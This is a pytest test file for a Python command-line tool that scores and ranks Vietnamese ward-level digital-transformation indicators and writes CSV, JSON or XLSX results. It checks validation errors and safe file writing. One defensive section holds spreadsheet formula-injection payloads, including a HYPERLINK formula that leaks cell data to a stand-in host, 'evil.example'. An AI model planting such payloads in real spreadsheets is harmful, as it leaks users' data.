"""`chiso score`: a values file in, a results file out; bad input stops everything."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import stat
import textwrap
from pathlib import Path

import openpyxl
import pytest

from chiso.cli import main

FIXTURE = Path(__file__).parents[1] / "engine" / "fixtures" / "commune.yaml"
HEADER = "unit,value,points,rank,recognized,CQS,CQS.1,CQS.2,KTS,KTS.1,KTS.2,XHS,XHS.1,XHS.2"

# Phường Hàm Rồng reports well; Phường Hạc Thành has no portal and few meetings.
GOOD_VALUES = """\
unit,code,value
14758,hs_tt,1240
14758,hs_tong,1302
14758,CQS.2,có
14758,KTS.1,"61,5"
14758,KTS.2,3
14758,XHS.1,"98,7"
14797,hs_tt,600
14797,hs_tong,1000
14797,CQS.2,không
14797,KTS.1,40
14797,KTS.2,1
14797,XHS.1,90
"""


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    shutil.copy(FIXTURE, tmp_path / "commune.yaml")
    (tmp_path / "values.csv").write_text(GOOD_VALUES, encoding="utf-8")
    return tmp_path


def run(folder: Path, *args: str) -> int:
    return main([str(arg) for arg in args])


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_scoring_writes_one_row_per_unit_best_first(folder):
    output = folder / "results.csv"
    assert (
        main(["score", str(folder / "commune.yaml"), str(folder / "values.csv"), "-o", str(output)])
        == 0
    )
    text = output.read_text(encoding="utf-8")
    lines = text.splitlines()
    assert lines[0] == HEADER
    # 14758: CQS.1 full (95%), portal, threshold met, 3 meetings (15 of 20), best share.
    assert lines[1] == "14758,0.9166666667,55,1,true,1,1,1,0.8333333333,1,0.75,1,1,0"
    rows = rows_of(text)
    assert [row["unit"] for row in rows] == ["14758", "14797"]
    assert rows[1]["rank"] == "2" and rows[1]["recognized"] == "false"
    # 60% online is 60/90 of CQS.1's 10 points: at least 6 significant digits.
    assert rows[1]["CQS.1"] == "0.6666666667"


def test_a_dash_writes_to_standard_output(folder, capsys):
    assert main(["score", str(folder / "commune.yaml"), str(folder / "values.csv"), "-o", "-"]) == 0
    out = capsys.readouterr().out
    assert out.splitlines()[0] == HEADER and len(out.splitlines()) == 3


def test_json_is_chosen_by_the_extension_with_null_for_missing(folder):
    framework = folder / "city.yaml"
    framework.write_text(
        textwrap.dedent(
            """\
            format: chiso-framework/1
            code: city-2024
            title: {vi: "Đô thị thông minh"}
            level: province
            year: 2024
            tree:
              - code: DTTM
                title: {vi: "Đô thị thông minh"}
                children:
                  - code: DTTM.1
                    title: {vi: "Trung tâm điều hành"}
                    points: 0
                    score: {method: boolean}
            """
        ),
        encoding="utf-8",
    )
    values = folder / "city.csv"
    values.write_text("unit,code,value\n38,DTTM.1,có\n", encoding="utf-8")
    output = folder / "results.json"
    assert run(folder, "score", framework, values, "-o", output) == 0
    assert json.loads(output.read_text(encoding="utf-8")) == [
        {"unit": "38", "value": None, "points": 0.0, "rank": 1, "recognized": None,
         "DTTM": None, "DTTM.1": 1.0}
    ]  # fmt: skip
    csv_output = folder / "results.csv"
    assert run(folder, "score", framework, values, "-o", csv_output) == 0
    assert csv_output.read_text(encoding="utf-8").splitlines()[1] == "38,,0,1,,,1"


def test_xlsx_output_has_one_sheet_named_results(folder):
    output = folder / "results.xlsx"
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output) == 0
    book = openpyxl.load_workbook(output, read_only=True)
    assert book.sheetnames == ["results"]
    rows = list(book["results"].iter_rows(values_only=True))
    assert list(rows[0]) == HEADER.split(",")
    assert rows[1][:5] == ("14758", pytest.approx(0.9166666667), 55, 1, True)
    assert rows[2][0] == "14797" and rows[2][3] == 2


def test_the_format_option_wins_over_the_extension(folder, capsys):
    output = folder / "results.txt"
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output,
               "--format", "json") == 0  # fmt: skip
    assert json.loads(output.read_text(encoding="utf-8"))[0]["unit"] == "14758"
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", "-") == 0
    assert capsys.readouterr().out.startswith("unit,value")


def test_a_file_saved_by_excel_with_a_bom_crlf_and_blank_lines_is_read(folder):
    values = folder / "excel.csv"
    text = GOOD_VALUES.replace("\n", "\r\n").replace("14797,hs_tt", "\r\n14797,hs_tt")
    values.write_bytes("\ufeff".encode() + text.encode("utf-8"))
    output = folder / "results.csv"
    assert run(folder, "score", folder / "commune.yaml", values, "-o", output) == 0
    assert output.read_text(encoding="utf-8").splitlines()[1].startswith("14758,0.9166666667,55")


def test_the_output_is_written_with_the_usual_file_mode_and_nothing_else_is_left(folder):
    output = folder / "results.csv"
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output) == 0
    umask = os.umask(0)
    os.umask(umask)
    # Not the private 0600 of a temporary file: what any file written here gets.
    assert output.stat().st_mode & 0o777 == 0o666 & ~umask
    assert sorted(path.name for path in folder.iterdir()) == [
        "commune.yaml", "results.csv", "values.csv",
    ]  # fmt: skip


# -- bad input: exit 2, one line per problem, no output -----------------------


def fails(folder: Path, capsys, *args: object) -> list[str]:
    """Run a command that must fail; return its stderr lines."""
    output = folder / "results.csv"
    assert main([str(arg) for arg in args] + ["-o", str(output)]) == 2
    assert not output.exists()
    # Not even a temporary file is left behind.
    assert not [path for path in folder.iterdir() if path.name.startswith(".results")]
    captured = capsys.readouterr()
    assert captured.out == "" and "Traceback" not in captured.err
    return captured.err.splitlines()


def test_bad_values_name_every_line_and_nothing_is_scored(folder, capsys):
    values = folder / "values.csv"
    values.write_text(
        GOOD_VALUES + "14758,hs_khac,5\n14800,KTS.1,120\n14800,CQS.2,chưa\n14758,hs_tt,1250\n",
        encoding="utf-8",
    )
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [
        f"{values}:14: hs_khac: unknown code for framework test-commune-2024",
        f"{values}:15: KTS.1: unit 14800: '120' is not a percentage between 0 and 100",
        f"{values}:16: CQS.2: unit 14800: 'chưa' is not a yes/no value "
        "(1/0, có/không, đạt/không đạt)",
        f"{values}:17: hs_tt: unit 14758: the value is given twice (also on line 2)",
    ]


def test_a_broken_framework_and_a_missing_values_file_are_both_reported(folder, capsys):
    framework = folder / "commune.yaml"
    framework.write_text(
        framework.read_text(encoding="utf-8").replace("method: linear, zero: 0, full: 90",
                                                      "method: fancy"),
        encoding="utf-8",
    )  # fmt: skip
    errors = fails(folder, capsys, "score", framework, folder / "missing.csv")
    assert errors == [
        f"{framework}:30: CQS.1: unknown scoring method 'fancy' "
        "(use one of linear, threshold, steps, boolean, relative)",
        f"{folder / 'missing.csv'}: cannot read the file: No such file or directory",
    ]


def test_broken_yaml_is_one_line_with_its_line_number(folder, capsys):
    framework = folder / "commune.yaml"
    framework.write_text("format: chiso-framework/1\ntree: [\n  {code: A\n", encoding="utf-8")
    errors = fails(folder, capsys, "score", framework, folder / "values.csv")
    assert len(errors) == 1 and errors[0].startswith(f"{framework}:4: broken YAML")


def test_a_wrong_header_is_refused(folder, capsys):
    values = folder / "values.csv"
    values.write_text("don_vi,ma,gia_tri\n14758,hs_tt,1\n", encoding="utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [f"{values}:1: the header must be unit,code,value, not 'don_vi,ma,gia_tri'"]


def test_a_row_with_the_wrong_number_of_fields_is_refused(folder, capsys):
    values = folder / "values.csv"
    values.write_text("unit,code,value\n14758,hs_tt,1,2\n14758,hs_tong\n", encoding="utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [
        f"{values}:2: expected 3 fields (unit,code,value), found 4",
        f"{values}:3: expected 3 fields (unit,code,value), found 2",
    ]


def test_a_quoted_value_over_two_lines_keeps_the_line_numbers_right(folder, capsys):
    values = folder / "values.csv"
    values.write_text('unit,code,value\n14758,CQS.2,"có\nkhông"\n14758,KTS.1,abc\n', "utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert [error.split(": ")[0] for error in errors] == [f"{values}:2", f"{values}:4"]


def test_values_that_break_a_validation_rule_name_the_unit_and_the_rule(folder, capsys):
    values = folder / "values.csv"
    values.write_text(GOOD_VALUES.replace("14758,hs_tt,1240", "14758,hs_tt,1400"), "utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [
        f"{values}: 14758: breaks rule 'hs_tt <= hs_tong' (hs_tt = 1400, hs_tong = 1302): "
        "Số hồ sơ trực tuyến không thể lớn hơn tổng số hồ sơ / "
        "Online dossiers cannot exceed all dossiers"
    ]


def test_a_unit_list_makes_unknown_units_errors(folder, capsys):
    units = folder / "units.txt"
    units.write_text("# Thanh Hóa wards\n14758\n", encoding="utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", folder / "values.csv",
                   "--units", units)  # fmt: skip
    assert len(errors) == 6
    assert errors[0] == f"{folder / 'values.csv'}:8: 14797: unknown unit (not in the list of units)"
    units.write_text("14758\n14797\n", encoding="utf-8")
    output = folder / "results.csv"
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output,
               "--units", units) == 0  # fmt: skip


def test_a_file_that_is_not_utf8_names_the_line(folder, capsys):
    values = folder / "values.csv"
    # UTF-8 on line 2, Windows-1258 on line 3: neither encoding reads the whole file.
    text = "unit,code,value\n14758,CQS.2,có\n".encode() + "14758,CQS.2,có\n".encode("cp1258")
    values.write_bytes(text)
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [f"{values}:3: the file is not UTF-8 text"]


def test_a_failed_run_leaves_an_earlier_results_file_untouched(folder, capsys):
    output = folder / "results.csv"
    output.write_text("last year's results\n", encoding="utf-8")
    values = folder / "values.csv"
    values.write_text("unit,code,value\n14758,hs_tt,abc\n", encoding="utf-8")
    assert run(folder, "score", folder / "commune.yaml", values, "-o", output) == 2
    assert output.read_text(encoding="utf-8") == "last year's results\n"
    assert "Traceback" not in capsys.readouterr().err


def test_an_output_folder_that_does_not_exist_is_a_clear_error(folder, capsys):
    output = folder / "nowhere" / "results.csv"
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output) == 2
    assert capsys.readouterr().err == (
        f"{output}: cannot write the file: No such file or directory\n"
    )


def test_usage_errors_exit_2_without_a_traceback(capsys):
    assert main(["score", "only-one-argument"]) == 2
    assert "usage: chiso score" in capsys.readouterr().err


def test_xlsx_can_go_to_standard_output_too(folder, capsysbinary):
    framework, values = folder / "commune.yaml", folder / "values.csv"
    assert run(folder, "score", framework, values, "-o", "-", "--format", "xlsx") == 0
    book = openpyxl.load_workbook(io.BytesIO(capsysbinary.readouterr().out), read_only=True)
    assert [row[0] for row in book["results"].iter_rows(values_only=True)] == [
        "unit", "14758", "14797",
    ]  # fmt: skip


def test_an_output_that_is_a_folder_is_a_clear_error_and_nothing_is_left(folder, capsys):
    (folder / "out").mkdir()
    assert (
        run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", folder / "out")
        == 2
    )
    captured = capsys.readouterr()
    assert captured.err.startswith(f"{folder / 'out'}: cannot write the file: ")
    assert "Traceback" not in captured.err
    assert sorted(path.name for path in folder.iterdir()) == ["commune.yaml", "out", "values.csv"]


# -- the results file is written safely (issue 7, items 6 and 8) --------------

# A unit code from a values file someone sent: a spreadsheet would run it.
HOSTILE_UNIT = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'


def hostile_values(folder: Path) -> Path:
    values = folder / "hostile.csv"
    with values.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow(["unit", "code", "value"])
        # "-2" alone would be a number (data, left as it is); "-2+1" would be computed.
        for unit in (HOSTILE_UNIT, "+1", "-2+1", "@SUM(A1)", "14758"):
            writer.writerow([unit, "CQS.2", "có"])
    return values


def test_a_unit_code_that_looks_like_a_formula_is_written_to_csv_as_text(folder):
    output = folder / "results.csv"
    assert run(folder, "score", folder / "commune.yaml", hostile_values(folder), "-o", output) == 0
    units = {row["unit"] for row in rows_of(output.read_text(encoding="utf-8"))}
    assert units == {f"'{HOSTILE_UNIT}", "'+1", "'-2+1", "'@SUM(A1)", "14758"}


def test_a_unit_code_that_looks_like_a_formula_is_a_text_cell_in_xlsx(folder):
    output = folder / "results.xlsx"
    assert run(folder, "score", folder / "commune.yaml", hostile_values(folder), "-o", output) == 0
    sheet = openpyxl.load_workbook(output)["results"]
    cells = {sheet.cell(row=row, column=1).value: sheet.cell(row=row, column=1).data_type
             for row in range(2, sheet.max_row + 1)}  # fmt: skip
    assert cells[HOSTILE_UNIT] == "s"
    assert set(cells.values()) == {"s"}
    # The figures stay numbers.
    assert sheet.cell(row=2, column=2).data_type == "n"


def test_the_output_goes_through_a_temporary_file_renamed_into_place(folder, monkeypatch):
    output = folder / "results.csv"
    output.write_text("last year's results\n", encoding="utf-8")
    replaced: list[tuple[str, str]] = []
    real_replace = os.replace

    def replace(source, target):
        replaced.append((str(source), str(target)))
        # The target is untouched until the complete file is renamed over it.
        assert output.read_text(encoding="utf-8") == "last year's results\n"
        assert Path(source).read_text(encoding="utf-8").startswith("unit,value")
        real_replace(source, target)

    monkeypatch.setattr(os, "replace", replace)
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", output) == 0
    [(source, target)] = replaced
    assert Path(source).parent == folder and target == str(output)
    assert output.read_text(encoding="utf-8").startswith("unit,value")


def test_an_output_that_is_a_symlink_is_refused_and_its_target_kept(folder, capsys):
    precious = folder / "precious.txt"
    precious.write_text("do not touch\n", encoding="utf-8")
    link = folder / "results.csv"
    link.symlink_to(precious)
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", link) == 2
    assert capsys.readouterr().err == (
        f"{link}: cannot write the file: it is a symbolic link, not a regular file\n"
    )
    assert link.is_symlink() and precious.read_text(encoding="utf-8") == "do not touch\n"
    assert sorted(path.name for path in folder.iterdir()) == [
        "commune.yaml", "precious.txt", "results.csv", "values.csv",
    ]  # fmt: skip


def test_an_output_that_is_a_fifo_is_refused_and_left_in_place(folder, capsys):
    fifo = folder / "results.csv"
    os.mkfifo(fifo)
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", fifo) == 2
    assert capsys.readouterr().err == (
        f"{fifo}: cannot write the file: it is a named pipe, not a regular file\n"
    )
    assert fifo.is_fifo()
    assert sorted(path.name for path in folder.iterdir()) == [
        "commune.yaml", "results.csv", "values.csv",
    ]  # fmt: skip


def a_character_device(folder: Path) -> Path:
    """A null device in the test's own folder (root may create one); else /dev/null,
    which only root could replace, so a mistake here can never touch the real one."""
    device = folder / "null"
    try:
        os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        return Path("/dev/null")
    return device


def test_an_output_that_is_a_device_is_refused(folder, capsys):
    device = a_character_device(folder)
    before = os.lstat(device)
    assert run(folder, "score", folder / "commune.yaml", folder / "values.csv", "-o", device) == 2
    assert capsys.readouterr().err == (
        f"{device}: cannot write the file: it is a device, not a regular file\n"
    )
    after = os.lstat(device)
    assert stat.S_ISCHR(after.st_mode)
    assert (after.st_ino, after.st_rdev) == (before.st_ino, before.st_rdev)
    assert not [path for path in device.parent.iterdir() if path.name.startswith(f".{device.name}")]


# -- bounds and thousands, the same as on the pages (issue 7, item 4) ----------

SHIPPED_COMMUNE = (
    Path(__file__).parents[2] / "chiso" / "frameworks" / "shipped" / ("thanhhoa-commune-2024.yaml")
)


@pytest.mark.parametrize("typed", ["-10", "1e308", "99999999999999999999"])
def test_a_negative_or_absurd_count_is_refused_naming_the_line(folder, capsys, typed):
    values = folder / "values.csv"
    values.write_text(f"unit,code,value\n14758,tthc_tt,100\n14758,tthc_ps,{typed}\n")
    errors = fails(folder, capsys, "score", SHIPPED_COMMUNE, values)
    assert errors == [
        f"{values}:3: tthc_ps: unit 14758: '{typed}' is outside the bounds of this input "
        "(it must be between 0 and 9007199254740992)"
    ]


def test_a_count_written_with_a_thousands_separator_is_refused_like_on_the_pages(folder, capsys):
    values = folder / "values.csv"
    values.write_text("unit,code,value\n14758,hs_tt,1.000\n14758,hs_tong,1302\n")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [
        f"{values}:2: hs_tt: unit 14758: '1.000' is not a whole number (do not separate thousands)"
    ]


def test_a_bad_byte_deep_in_a_large_file_names_its_line(folder, capsys):
    # The file is read as it comes, so the line of the first byte that is not UTF-8 is
    # known without decoding the whole file first.
    values = folder / "values.csv"
    lines = ["unit,code,value", "14758,CQS.2,có"] + ["14758,XHS.1,5"] * 200_000
    data = "\n".join(lines).encode() + "\n14758,CQS.2,có\n".encode("cp1258")
    values.write_bytes(data)
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [f"{values}:200003: the file is not UTF-8 text"]


def test_a_line_too_long_to_be_a_value_stops_the_reading_there(folder, capsys):
    values = folder / "values.csv"
    values.write_text("unit,code,value\n14758,XHS.1,5\n14758,XHS.1," + "9" * 50_000, "utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [f"{values}:3: a line of over 10000 characters: not a line of values"]


def test_more_units_than_a_values_file_may_name_stop_the_reading_at_the_first_beyond(
    folder, capsys
):
    values = folder / "values.csv"
    rows = "".join(f"u{number},XHS.1,5\n" for number in range(30_000))
    values.write_text("unit,code,value\n" + rows, "utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert errors == [f"{values}:20002: more than 20000 units: the file was not read further"]


@pytest.mark.parametrize(
    "rows, more",
    [
        # 500 lines of 4 fields: 50 are kept, the rest counted, not held.
        ("14758,hs_tt,1,2\n" * 500, 450),
        # 300 unreadable values, found by the engine.
        ("".join(f"u{number},XHS.1,abc\n" for number in range(300)), 250),
    ],
)
def test_fifty_problems_are_printed_then_how_many_more(folder, capsys, rows, more):
    values = folder / "values.csv"
    values.write_text("unit,code,value\n" + rows, "utf-8")
    errors = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert len(errors) == 51
    assert all(error.startswith(f"{values}:") for error in errors[:50])
    assert errors[50] == f"... and {more} more problems"


def test_a_long_wrong_header_is_quoted_only_in_part(folder, capsys):
    values = folder / "values.csv"
    values.write_text(",".join(f"cot{number}" for number in range(900)) + "\n", "utf-8")
    [error] = fails(folder, capsys, "score", folder / "commune.yaml", values)
    assert error.startswith(f"{values}:1: the header must be unit,code,value, not 'cot0,cot1,")
    assert error.endswith("…'") and len(error) < len(str(values)) + 150


def test_chiso_score_leaves_out_an_indicator_that_does_not_apply(tmp_path, capsys):
    # Sở Tư pháp: the department portal indicator (10 of 20 points) does not apply.
    framework = tmp_path / "department.yaml"
    framework.write_text(
        textwrap.dedent(
            """\
            format: chiso-framework/1
            code: department-2026
            title: {vi: "Sở, ngành"}
            level: department
            year: 2026
            tree:
              - code: A
                title: {vi: "Văn bản ký số"}
                points: 10
                score: {method: linear, zero: 0, full: 100}
              - code: B
                title: {vi: "Doanh nghiệp dùng nền tảng số"}
                points: 10
                may_not_apply: true
                score: {method: boolean}
            """
        ),
        encoding="utf-8",
    )
    values = tmp_path / "values.csv"
    values.write_text("unit,code,value\nSO-TP,A,50\nSO-TP,B,Không áp dụng\n", encoding="utf-8")

    assert main(["score", str(framework), str(values), "-o", "-"]) == 0

    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    # 5 of the 10 points that apply: 0.5, shown as 10 points "of 20".
    assert [(r["unit"], r["value"], r["points"], r["B"]) for r in rows] == [
        ("SO-TP", "0.5", "10", "")
    ]
